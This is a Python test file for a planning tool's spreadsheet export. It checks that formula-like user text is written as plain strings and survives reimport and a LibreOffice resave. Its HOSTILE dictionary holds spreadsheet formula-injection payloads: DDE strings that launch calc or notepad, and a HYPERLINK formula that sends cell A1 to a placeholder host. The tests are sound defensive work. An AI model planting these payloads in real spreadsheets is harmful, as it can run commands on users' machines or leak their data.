"""Text stays text: whatever a person wrote is exported as a string, never as a live formula."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from piaodesk.domain.model import Fase, Indicatore, Misura, Obiettivo, Persona, Risorsa, Unita
from piaodesk.exchange.portale import write_portale
from piaodesk.exchange.reimport import diff_workbook
from piaodesk.exchange.workbook import write_template, write_workbook
from piaodesk.store.edits import Batch, SetFields

# formula, HYPERLINK and DDE payloads, and the other characters spreadsheets treat as a formula start
HOSTILE = {
    "titolo": '=HYPERLINK("http://esempio.invalid/?x="&A1,"Clicca qui")',
    "descrizione": "=cmd|' /C calc'!A0",
    "formula": "=A1/B1*100",
    "ind_descrizione": "+cmd|' /C notepad'!A0",
    "fase": "-2+3+cmd|' /C calc'!A0",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "cognome": "=Rossi",
    "nome": "+Maria",
    "unita": "=HYPERLINK(\"http://x.invalid\")",
    "risorsa": "=1+1",
    "target": "=5",
}


def _hostile_plan(demo) -> dict[str, int]:
    ob = next(o for o in demo.obiettivi() if o.codice == "TS.1")
    ind = demo.indicatori(ob.id)[0]
    fase = demo.fasi(ob.id)[0]
    persona = next(p for p in demo.persone() if p.id == ob.responsabile_id) if ob.responsabile_id \
        else demo.persone()[0]
    unita = demo.unita()[0]
    mis = next(m for m in demo.misure([ind.id]) if m.periodo == "")
    risorse = demo.select(Risorsa)
    edits = [
        SetFields(Obiettivo, ob.id, {"titolo": HOSTILE["titolo"], "descrizione": HOSTILE["descrizione"],
                                     "note": HOSTILE["note"], "stakeholder": "-cittadini"}),
        SetFields(Indicatore, ind.id, {"formula": HOSTILE["formula"],
                                       "descrizione": HOSTILE["ind_descrizione"]}),
        SetFields(Fase, fase.id, {"descrizione": HOSTILE["fase"]}),
        SetFields(Persona, persona.id, {"cognome": HOSTILE["cognome"], "nome": HOSTILE["nome"]}),
        SetFields(Unita, unita.id, {"nome": HOSTILE["unita"]}),
        SetFields(Misura, mis.id, {"target_testo": HOSTILE["target"], "target": None}),
    ]
    if risorse:
        edits.append(SetFields(Risorsa, risorse[0].id, {"descrizione": HOSTILE["risorsa"]}))
    demo.apply(Batch(edits, "testi ostili"))
    return {"ob": ob.id, "ind": ind.id, "fase": fase.id, "persona": persona.id}


def _formulas_in(path: Path) -> list[str]:
    """Every <f> element of every sheet of the saved file (the raw XML, not openpyxl's view)."""
    found = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                found += [f"{name}: {m}" for m in re.findall(r"<(?:\w+:)?f[ >][^<]*", xml)]
    return found


def _all_texts(path: Path) -> set[str]:
    wb = openpyxl.load_workbook(path)
    out = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    assert c.data_type == "s", (ws.title, c.coordinate, c.value)
                    out.add(c.value)
    return out


def test_export_writes_no_formula_and_reimport_gives_back_the_text(demo, tmp_path):
    ids = _hostile_plan(demo)
    out = tmp_path / "piano.xlsx"
    write_workbook(demo, out)
    assert _formulas_in(out) == []
    texts = _all_texts(out)
    for key in ("titolo", "descrizione", "formula", "ind_descrizione", "fase", "note", "unita",
                "target"):
        assert HOSTILE[key] in texts, key
    assert "=Rossi +Maria" in texts  # the person's name, in its cells and in the hidden list
    # the untouched export re-imports with no difference: every text came back exactly
    plan = diff_workbook(demo, out)
    assert plan.differenze == [] and plan.edits == [], plan.report()
    assert [p for p in plan.problemi if p.gravita != "info"] == []
    assert demo.obiettivo(ids["ob"]).titolo == HOSTILE["titolo"]


def test_new_rows_with_formula_like_text_import_as_text(empty_plan, tmp_path):
    out = tmp_path / "modello.xlsx"
    write_template(out, [2025, 2026, 2027])
    wb = openpyxl.load_workbook(out)
    ws = wb["Obiettivi"]
    ws.append([None, "OB.1", None, "Obiettivi", "Obiettivo operativo/esecutivo", "Titolo"])
    c = ws.cell(row=2, column=7)
    c.value = HOSTILE["descrizione"]
    c.data_type = "s"  # typed as text (Excel: a leading apostrophe)
    wb.save(out)
    plan = diff_workbook(empty_plan, out)
    plan.apply(empty_plan)
    assert empty_plan.obiettivi()[0].descrizione == HOSTILE["descrizione"]
    # and it goes out again as text
    again = tmp_path / "di-nuovo.xlsx"
    write_workbook(empty_plan, again)
    assert _formulas_in(again) == []
    assert diff_workbook(empty_plan, again).differenze == []


def test_portale_layout_and_template_write_no_formula(demo, tmp_path):
    _hostile_plan(demo)
    out = tmp_path / "portale.xlsx"
    write_portale(demo, out)
    assert _formulas_in(out) == []
    texts = _all_texts(out)
    assert {HOSTILE["titolo"], HOSTILE["formula"], HOSTILE["ind_descrizione"]} <= texts
    tpl = tmp_path / "modello.xlsx"
    write_template(tpl)
    assert _formulas_in(tpl) == []


@pytest.mark.parametrize("text", ["=", "==", "=1", "= spazio"])
def test_edge_texts(empty_plan, tmp_path, text):
    from piaodesk.store.edits import InsertRow

    empty_plan.apply(InsertRow(Obiettivo(codice="X", titolo=text, descrizione=text)))
    out = tmp_path / "x.xlsx"
    write_workbook(empty_plan, out)
    assert _formulas_in(out) == []
    assert diff_workbook(empty_plan, out).differenze == []


def test_formula_like_text_survives_a_libreoffice_resave(demo, tmp_path):
    import shutil
    import subprocess

    exe = shutil.which("soffice") or shutil.which("libreoffice")
    if exe is None:
        pytest.skip("soffice non installato (pacchetto libreoffice-calc-nogui): la ri-salvata con "
                    "LibreOffice non si può provare")
    _hostile_plan(demo)
    out = tmp_path / "piano.xlsx"
    write_workbook(demo, out)
    lo = tmp_path / "lo"
    lo.mkdir()
    subprocess.run([exe, f"-env:UserInstallation=file://{lo / 'profilo'}", "--headless",
                    "--convert-to", "xlsx", "--outdir", str(lo), str(out)], check=True, timeout=240,
                   capture_output=True)
    resaved = lo / "piano.xlsx"
    assert _formulas_in(resaved) == []
    plan = diff_workbook(demo, resaved)
    assert plan.differenze == [] and plan.edits == [], plan.report()
